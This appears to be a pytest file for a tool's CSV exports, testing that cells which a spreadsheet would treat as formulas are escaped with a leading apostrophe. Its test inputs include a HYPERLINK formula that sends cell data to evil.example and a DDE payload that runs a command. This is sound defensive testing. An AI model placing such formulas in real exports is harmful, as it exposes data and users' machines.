"""The tables for spreadsheets: what is written in them, and what no spreadsheet runs."""

import csv
import io
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from coe.exports.csv_tables import actions_csv, as_typed, defused, timeline_csv
from tests.exports import samples
from tests.exports.exchanged import small


def rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def test_the_timeline_is_this() -> None:
    """Both half past ones of the night the clocks went back."""
    assert timeline_csv(small()).decode() == (
        '\ufeff"Start","End","Precision","Kind","Marks","What happened","Evidence","Id"\r\n'
        '"2026-11-01T01:30-07:00","","minute","change","",'
        '"# My heading\n\n<!-- coe: entry 9 -->","","00000000-0000-0000-0000-000000000001"\r\n'
        '"2026-11-01T01:30-08:00","2026-11-01T01:45-08:00","about","","","Later","",'
        '"00000000-0000-0000-0000-000000000002"\r\n'
    )


def test_the_action_items_name_their_cause_and_owner() -> None:
    head, first, *others = rows(actions_csv(samples.PUBLISHED))

    assert dict(zip(head, first, strict=True)) == {
        "Number": "A1",
        "Title": "Make the removal tool refuse to take a subsystem below its minimum capacity",
        "Done when": "A removal that would do so is refused in production, shown by a test run "
        "each week.",
        "Owner": "Priya Raman",
        "Role": "Operations tooling",
        "Due": "2017-03-07",
        "Priority": "P0",
        "Kind": "prevent",
        "Cause": "The tool removed whatever it was told to, at once, with no check against the "
        "capacity that a subsystem needs to live.",
        "Tracker": "https://tickets.example.com/S3-48300",
        "Id": "00000000-0000-0000-0000-00000000012c",
        "Decision": "",
        "Reason": "",
        "Committed owner": "",
        "Committed date": "",
        "State": "Accepted",
        "Due now": "2017-03-07",
        "First due": "",
        "Moved": "0",
        "Dates before": "",
        "Owner now": "Priya Raman",
        "Late": "yes",
        "Done": "",
        "Evidence": "",
        "As of": "2017-03-09",
    }
    assert len(others) == 5


ATTACKS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "＋1",
    "－1", "＠SUM(1)", '=HYPERLINK("http://evil.example?d="&A1,"x")', "=cmd|'/C calc'!A0", "-5",
)  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_a_spreadsheet_would_run_has_an_apostrophe_in_front(attack: str) -> None:
    entry = replace(samples.SNAPSHOT.entries[0], text=attack)
    action = replace(samples.SNAPSHOT.actions[0], title=attack, done_when=attack)
    snapshot = replace(samples.SNAPSHOT, entries=(entry,), actions=(action,))
    whole = replace(samples.PUBLISHED, snapshot=snapshot)

    assert rows(timeline_csv(whole))[1][5] == f"'{attack}"
    assert rows(actions_csv(whole))[1][1:3] == [f"'{attack}", f"'{attack}"]


@pytest.mark.parametrize("text", ["a,=1+1", '"=1+1', "a\n=1+1", "5 - 3", "", "2017-02-28", "P0"])
def test_what_begins_like_no_formula_stays_as_it_is(text: str) -> None:
    assert defused(text) == text


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ("x;=cmd|'/C calc'!A0;y", "x;'=cmd|'/C calc'!A0;y"),
        ("x; \t@SUM(1)", "x; \t'@SUM(1)"),
        ("=1;-2", "'=1;'-2"),
        ("a; b;;c = d", "a; b;;c = d"),
    ],
)
def test_where_semicolons_end_cells_none_begins_like_a_formula(text: str, told: str) -> None:
    """A spreadsheet there takes the line `"a","x;=1"` for the cells `a,"x` and `=1"`."""
    assert defused(text) == told
    assert as_typed(told) == text


@given(st.text(alphabet="a;= '-", max_size=8))
def test_what_was_defused_comes_back_as_it_was(text: str) -> None:
    assert as_typed(defused(text)) == text


@given(st.text(max_size=20))
def test_no_cell_begins_like_a_formula_and_none_breaks_out_of_its_quotes(text: str) -> None:
    entry = replace(samples.SNAPSHOT.entries[0], text=text)
    whole = replace(samples.PUBLISHED, snapshot=replace(samples.SNAPSHOT, entries=(entry,)))

    (_, row) = rows(timeline_csv(whole))

    assert row[5].replace("'", "") == text.replace("'", "")
    assert not row[5].lstrip().startswith(tuple("=+-@"))
